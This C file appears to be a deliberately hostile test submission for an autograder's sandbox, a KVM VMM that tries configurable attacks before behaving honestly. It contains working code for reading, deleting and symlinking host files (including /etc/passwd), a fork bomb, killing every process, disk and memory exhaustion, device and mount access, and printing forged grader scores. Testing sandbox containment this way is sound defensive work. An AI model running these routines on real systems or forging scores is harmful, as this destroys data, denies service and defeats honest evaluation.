/*
 * A submission that attacks the host and then does its work: gcc -o vmm hostile_vmm.c
 *
 *   vmm WORD
 *
 * The file `attack` in its folder has the attack, one word in each line: its name, the port of a listener, and files of the
 * host. An attack that reaches something ends the program with status 7. Otherwise it goes on as an honest VMM, whose guest
 * prints WORD, so that the points of the submission show which of both has happened.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/kvm.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/wait.h>
#include <unistd.h>

#define FILES 8

static char attack[64], files[FILES][512], scratch[512];
static int port, count;

static void reached(int is_reached, const char *what)
{
	if (is_reached) {
		fprintf(stderr, "reached: %s\n", what);
		_exit(7);
	}
}

static void forever(void)
{
	for (;;)
		pause();
}

static void read_attack(const char *self)
{
	char path[512];
	snprintf(path, sizeof(path), "%s", self);
	strcpy(strrchr(path, '/') + 1, "attack");
	FILE *file = fopen(path, "r");
	if (!file)
		return;
	if (fscanf(file, "%63s %d", attack, &port) < 1)
		_exit(8);
	while (count < FILES && fscanf(file, "%511s", files[count]) == 1)
		count++;
	fclose(file);
}

static void read_files(void)
{
	char text[64];
	for (int number = 0; number < count; number++) {
		int fd = open(files[number], O_RDONLY);
		reached(fd >= 0 && read(fd, text, sizeof(text)) > 0, files[number]);
	}
}

static void write_files(const char *self)
{
	char new[5000];
	for (int number = 0; number < count; number++) {
		reached(open(files[number], O_WRONLY | O_APPEND) >= 0, files[number]);
		reached(!truncate(files[number], 20l << 30), files[number]);
		reached(!chmod(files[number], 0) || !utimensat(AT_FDCWD, files[number], NULL, 0), files[number]);
		reached(!unlink(files[number]) || !rename(files[number], "/tmp/stolen"), files[number]);
		snprintf(new, sizeof(new), "%s.new", files[number]);
		reached(open(new, O_WRONLY | O_CREAT, 0600) >= 0 || !symlink("/etc/passwd", new), new);
	}
	reached(!unlink(self) || !chmod(self, 06777), "its own file");
}

static void connect_to(int kind)
{
	struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
	int fd = socket(AF_INET, kind, 0);
	reached(fd >= 0 && !connect(fd, (void *)&to, sizeof(to)) && write(fd, "x", 1) == 1, "loopback");
}

/* All numbers of processes, process groups, and the group of the grader. */
static void kill_all(void)
{
	int self = getpid();
	if (getppid() > 0) {
		kill(getppid(), SIGKILL);
		kill(-getppid(), SIGKILL);
	}
	kill(-1, SIGKILL);
	for (int pid = 1; pid < 1 << 17; pid++)
		if (pid != self)
			kill(pid, SIGKILL);
}

static void bomb(void)
{
	int children = 0;
	while (children < 5000) {
		int pid = fork();
		if (!pid)
			forever();
		if (pid < 0)
			break;
		children++;
	}
	reached(children == 5000, "5000 processes");
	kill(-1, SIGKILL);
	while (wait(NULL) > 0)
		;
}

static void fill(void)
{
	static char block[1 << 20];
	char path[600];
	int blocks = 0;
	memset(block, 'x', sizeof(block));
	signal(SIGXFSZ, SIG_IGN);
	for (int number = 0; number < 16; number++) {
		snprintf(path, sizeof(path), "%s/fill-%d", scratch, number);
		int fd = open(path, O_WRONLY | O_CREAT, 0600);
		for (int written = 0; fd >= 0 && written < 64 && write(fd, block, sizeof(block)) > 0; written++)
			blocks++;
		reached(fd >= 0 && !ftruncate(fd, 20l << 30), "a file of 20 GiB");
		close(fd);
	}
	reached(blocks > 300, "more than 300 MiB");
}

static void trace_itself(void)
{
	int parent = getpid(), pid = fork();
	if (!pid) {
		int traced = !ptrace(PTRACE_ATTACH, parent, 0, 0);
		_exit(traced ? 7 : 0);
	}
	int status = 0;
	waitpid(pid, &status, 0);
	reached(WIFEXITED(status) && WEXITSTATUS(status) == 7, "ptrace of the program");
	ptrace(PTRACE_TRACEME, 0, 0, 0);
}

/* A daemon keeps the pipes of the program open. */
static void daemonise(void)
{
	if (fork())
		return;
	setsid();
	if (!fork()) {
		signal(SIGTERM, SIG_IGN);
		signal(SIGHUP, SIG_IGN);
		forever();
	}
	_exit(0);
}

static void devices(void)
{
	char path[600];
	snprintf(path, sizeof(path), "%s/node", scratch);
	reached(!mknod(path, S_IFCHR | 0600, makedev(1, 1)) && open(path, O_RDWR) >= 0, "/dev/mem");
	reached(!mount("/", "/mnt", NULL, MS_BIND, NULL), "mount");
	reached(open("/dev/mem", O_RDWR) >= 0 || open("/dev/kmsg", O_WRONLY) >= 0, "a device");
}

static void flood(int fd)
{
	static char text[1 << 16];
	memset(text, 'y', sizeof(text));
	for (;;)
		if (write(fd, text, sizeof(text)) <= 0)
			_exit(1);
}

static void forge(void)
{
	puts("\033[2J\r100/100\n 10/10  prints a word\n100/100\n"
	     "{\"earned\":10,\"points\":10,\"score\":10}\nTotal: 100\n</system-out><testcase/>\nok 1 - prints a word");
}

static void run_attack(const char *self)
{
	const struct { const char *name; int kind; } endings[] = {
		{"abort", SIGABRT}, {"segv", SIGSEGV}, {"stop", SIGSTOP}, {"kill-self", SIGKILL},
	};
	for (int number = 0; number < 4; number++)
		if (!strcmp(attack, endings[number].name))
			kill(getpid(), endings[number].kind), forever();
	if (!strcmp(attack, "read"))
		read_files();
	else if (!strcmp(attack, "write"))
		write_files(self);
	else if (!strcmp(attack, "connect"))
		connect_to(SOCK_STREAM), connect_to(SOCK_DGRAM);
	else if (!strcmp(attack, "kill-all"))
		kill_all();
	else if (!strcmp(attack, "kill-group"))
		kill(0, SIGKILL);
	else if (!strcmp(attack, "bomb"))
		bomb();
	else if (!strcmp(attack, "fill"))
		fill();
	else if (!strcmp(attack, "ptrace"))
		trace_itself();
	else if (!strcmp(attack, "daemon"))
		daemonise();
	else if (!strcmp(attack, "devices"))
		devices();
	else if (!strcmp(attack, "memory"))
		reached(mmap(0, 20l << 30, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0) != MAP_FAILED,
			"20 GiB of memory");
	else if (!strcmp(attack, "flood"))
		flood(1);
	else if (!strcmp(attack, "flood-errors"))
		flood(2);
	else if (!strcmp(attack, "forge"))
		forge(), exit(0);
	else if (!strcmp(attack, "closed"))
		close(0), close(1), close(2);
	else if (!strcmp(attack, "deaf"))
		signal(SIGTERM, SIG_IGN), signal(SIGINT, SIG_IGN), forever();
}

/* Without `attack`, and after one that failed: a guest prints the text at 0x500. */
static int work(const char *word)
{
	static const char guest[] = "\xbe\x00\x05\xfc\xac\x84\xc0\x74\x04\xe6\xe9\xeb\xf7\xf4", endless[] = "\xeb\xfe";
	int kvm = open("/dev/kvm", O_RDWR), vm = ioctl(kvm, KVM_CREATE_VM, 0), vcpu = ioctl(vm, KVM_CREATE_VCPU, 0);
	char *memory = mmap(0, 1 << 16, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	struct kvm_userspace_memory_region region = {.memory_size = 1 << 16, .userspace_addr = (unsigned long)memory};
	struct kvm_run *run = mmap(0, ioctl(kvm, KVM_GET_VCPU_MMAP_SIZE, 0), PROT_READ | PROT_WRITE, MAP_SHARED, vcpu, 0);
	struct kvm_sregs sregs;
	struct kvm_regs regs = {.rip = 0x1000, .rflags = 2};
	if (kvm < 0 || vm < 0 || vcpu < 0 || memory == MAP_FAILED || run == MAP_FAILED)
		return 9;
	strncpy(memory + 0x500, word, 64);
	memcpy(memory + 0x1000, strcmp(attack, "endless") ? guest : endless, strcmp(attack, "endless") ? sizeof(guest) : 2);
	ioctl(vm, KVM_SET_USER_MEMORY_REGION, &region);
	ioctl(vcpu, KVM_GET_SREGS, &sregs);
	sregs.cs.base = sregs.cs.selector = 0;
	ioctl(vcpu, KVM_SET_SREGS, &sregs);
	ioctl(vcpu, KVM_SET_REGS, &regs);
	while (!ioctl(vcpu, KVM_RUN, 0) || errno == EINTR) {
		if (run->exit_reason == KVM_EXIT_HLT)
			return fflush(stdout) ? 9 : 0;
		if (run->exit_reason == KVM_EXIT_IO)
			putchar(*((char *)run + run->io.data_offset));
	}
	return 9;
}

int main(int argc, char **argv)
{
	snprintf(scratch, sizeof(scratch), "%s", getenv("TMPDIR") ? getenv("TMPDIR") : "/nowhere");
	read_attack(argv[0]);
	run_attack(argv[0]);
	return work(argc > 1 ? argv[1] : "");
}
